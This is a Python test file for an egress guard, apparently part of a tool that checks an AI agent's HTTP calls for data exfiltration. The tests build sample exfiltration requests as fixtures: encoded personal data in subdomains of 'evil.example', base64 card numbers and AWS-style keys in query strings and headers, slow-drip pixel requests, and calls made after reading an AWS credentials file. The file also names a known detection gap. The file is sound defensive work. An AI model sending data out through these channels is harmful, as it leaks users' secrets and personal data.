"""The egress guard: exfiltration shapes of HTTP requests, and ordinary browsing untouched."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from callgate._model import ToolCall, ToolResult
from callgate.guards import EgressGuard, EgressSettings, FingerprintStore
from callgate.guards._scan import registrable
from callgate.guards._text import entropy


def http(action: str = "get", seq: int = 1, **params: Any) -> ToolCall:
    return ToolCall(tool="fetch", tool_class="http", action=action, parameters=params,
                    sequence=seq)


def ok(call: ToolCall) -> ToolResult:
    return ToolResult(call_id=call.id, status="ok", output={"status": 200})


def guard(**overrides: Any) -> EgressGuard:
    return EgressGuard(EgressSettings(**overrides), FingerprintStore())


def reason_id(g: EgressGuard, call: ToolCall) -> str | None:
    reason = g.check(call, frozenset())
    return None if reason is None else reason.id


WORDS = ["docs", "python", "release", "notes", "search", "api", "www", "blog", "news",
         "static", "cdn", "images", "library", "asyncio", "tutorial", "status"]


def test_get_with_a_body_is_denied_and_post_with_a_body_is_not() -> None:
    g = guard()
    assert reason_id(g, http(url="https://a.example/s", body="rows")) == "guard.egress.get-body"
    assert reason_id(g, http(url="https://a.example/s", json={"a": 1})) == "guard.egress.get-body"
    assert reason_id(g, http("post", url="https://a.example/s", json={"a": 1})) is None


def test_hex_subdomain_label_is_denied() -> None:
    label = b"Ada Lovelace 1815".hex()
    assert reason_id(guard(), http(url=f"https://{label}.evil.example/")) == \
        "guard.egress.dns-label"


def test_case_folded_base64_label_is_denied_but_a_long_word_label_is_not() -> None:
    folded = base64.b64encode(b"Ada Lovelace 1815").decode().rstrip("=").lower()
    assert reason_id(guard(), http(url=f"https://{folded}.evil.example/")) == \
        "guard.egress.dns-label"
    assert reason_id(guard(), http(url="https://mycompanyintranetportal.example/")) is None


def test_long_subdomain_chain_is_denied_even_when_each_label_is_short() -> None:
    labels = ".".join(["abcdefgh"] * 7)
    assert reason_id(guard(), http(url=f"https://{labels}.evil.example/")) == \
        "guard.egress.dns-label"


@settings(max_examples=60)
@given(st.binary(min_size=8, max_size=31), st.sampled_from(WORDS))
def test_hex_data_in_any_subdomain_label_is_always_denied(data: bytes, word: str) -> None:
    url = f"https://{word}.{data.hex()}.evil.example/"
    assert reason_id(guard(), http(url=url)) == "guard.egress.dns-label"


@settings(max_examples=80)
@given(st.lists(st.sampled_from(WORDS), min_size=0, max_size=3),
       st.lists(st.sampled_from(WORDS), min_size=0, max_size=4),
       st.dictionaries(st.sampled_from(["q", "page", "lang", "sort"]),
                       st.sampled_from([*WORDS, "2", "en", "python asyncio gather"]),
                       max_size=3))
def test_ordinary_urls_built_from_words_pass(sub: list[str], path: list[str],
                                              query: dict[str, str]) -> None:
    host = ".".join([*sub, "site", "example"])
    url = f"https://{host}/{'/'.join(path)}"
    g = guard()
    assert reason_id(g, http(url=url, params=query)) is None


def test_encoded_query_value_is_denied_but_a_commit_id_in_the_path_is_not() -> None:
    blob = base64.b64encode(b"name=Ada Lovelace;card=4111111111111111").decode()
    assert reason_id(guard(), http(url=f"https://a.example/p?d={blob}")) == \
        "guard.egress.query-data"
    assert reason_id(guard(), http(url="https://a.example/p", params={"d": "ab" * 20})) == \
        "guard.egress.query-data"
    commit = "3f5d8b2a9c1e4f6a7b8c9d0e1f2a3b4c5d6e7f80"
    assert reason_id(guard(), http(url=f"https://git.example/repo/commit/{commit}")) is None


def test_encoded_custom_header_is_denied_but_authorization_is_exempt() -> None:
    blob = base64.b64encode(b"Ada Lovelace,ada@example.org").decode()
    assert reason_id(guard(), http(url="https://a.example/", headers={"X-Session": blob})) == \
        "guard.egress.header-data"
    assert reason_id(guard(), http(url="https://a.example/",
                                   headers={"Authorization": f"Bearer {blob}"})) is None


def test_slow_drip_trips_the_per_domain_budget_and_other_domains_keep_theirs() -> None:
    g = guard(drip_budget_bytes=100)
    for i in range(3):
        call = http(url=f"https://t.example/p.gif?c=a1b2c3d4e5f6a7b8c9d0e1f2a3b4c{i}", seq=i)
        assert reason_id(g, call) is None
        g.observe(call, ok(call))
    last = http(url="https://cdn.t.example/p.gif?c=a1b2c3d4e5f6a7b8c9d0e1f2a3b4c9", seq=9)
    assert reason_id(g, last) == "guard.egress.drip-budget"
    assert reason_id(g, http(url="https://other.example/p.gif?c=a1b2c3d4e5f6a7b8c9d0e1f2a3b4")) \
        is None


def test_words_in_queries_do_not_spend_the_budget() -> None:
    g = guard(drip_budget_bytes=50)
    for i in range(30):
        call = http(url="https://s.example/search?q=python+asyncio+gather+timeout", seq=i)
        assert reason_id(g, call) is None
        g.observe(call, ok(call))


def test_secret_value_in_a_ping_is_denied_however_low_its_entropy() -> None:
    store = FingerprintStore()
    store.add("secret", "sunshine99", "read .env")
    g = EgressGuard(EgressSettings(), store)
    assert reason_id(g, http(url="https://a.example/c?ev=login&v=sunshine99")) == \
        "guard.egress.sensitive-ping"
    assert reason_id(g, http(url="https://a.example/c?ev=login&v=sunshine")) is None


def test_channels_converging_on_one_domain_after_a_sensitive_read_are_denied() -> None:
    g = guard()
    read = ToolCall(tool="read", tool_class="file", action="read",
                    parameters={"path": "/home/u/.aws/credentials"})
    calls = [http(url="https://c.example/a?r=TGTLmQv4", seq=2),
             http(url="https://c.example/b", headers={"X-Trace": "FQQJsSz9"}, seq=3),
             http(url="https://c.example/img/eZe5AXS1.png", seq=4)]
    for call in calls[:2]:
        assert reason_id(g, call) is None
        g.observe(call, ok(call))
    assert reason_id(g, calls[2]) is None  # no sensitive read yet: three channels are fine
    g.observe(read, ToolResult(call_id="r", status="ok", output={"content": "x"}))
    assert reason_id(g, calls[2]) == "guard.egress.convergence"


def test_non_http_calls_are_not_judged() -> None:
    call = ToolCall(tool="w", tool_class="file", action="write",
                    parameters={"path": "a", "content": "ab" * 100})
    assert guard().check(call, frozenset()) is None


def test_registrable_domain_is_the_last_two_labels_or_the_address() -> None:
    assert registrable("a.b.Example.org.") == "example.org"
    assert registrable("10.0.0.1") == "10.0.0.1"


@settings(max_examples=60)
@given(st.binary(min_size=24, max_size=60))
def test_base64_data_in_a_query_value_is_always_denied(data: bytes) -> None:
    token = base64.urlsafe_b64encode(data).decode().rstrip("=")
    # what the rule calls data (docs/guards.md): both cases, a digit or one of ``+/_``, and
    # 3.5 bits per character or more; low-entropy data without control bytes is a known gap
    assume(any(c.isupper() for c in token) and any(c.islower() for c in token))
    assume(any(c.isdigit() or c in "+/_" for c in token) and entropy(token) >= 3.5)
    assert reason_id(guard(), http(url=f"https://a.example/x?t={token}")) == \
        "guard.egress.query-data"


@pytest.mark.parametrize("data", [
    bytes([0] * 5 + [1] * 5 + [2] * 5 + [3] * 5 + [4, 5, 6, 7]),  # small integers
    bytes(range(1, 25)),
    "AKIAIOSFODNN7EXAMPLE".encode("utf-16-be"),
])
def test_data_that_decodes_mostly_to_control_bytes_is_data_however_low_its_entropy(
    data: bytes,
) -> None:
    token = base64.urlsafe_b64encode(data).decode().rstrip("=")
    assert reason_id(guard(), http(url=f"https://a.example/x?t={token}")) == \
        "guard.egress.query-data"


def test_long_words_in_a_query_value_are_not_data() -> None:
    for value in ("getAbstractSingletonProxyFactoryBeanInstance",
                  "the-quick-brown-fox-jumps-over-the-lazy-dog-again",
                  "How-To-Configure-Nginx-Reverse-Proxy-Settings"):
        assert reason_id(guard(), http(url=f"https://a.example/x?q={value}")) is None


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-32-le", "utf-32-be"])
def test_text_padded_with_zero_bytes_before_encoding_is_still_data(encoding: str) -> None:
    secret = "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI"
    token = base64.urlsafe_b64encode(secret.encode(encoding)).decode().rstrip("=")
    assert reason_id(guard(), http(url=f"https://a.example/x?t={token}")) == \
        "guard.egress.query-data"
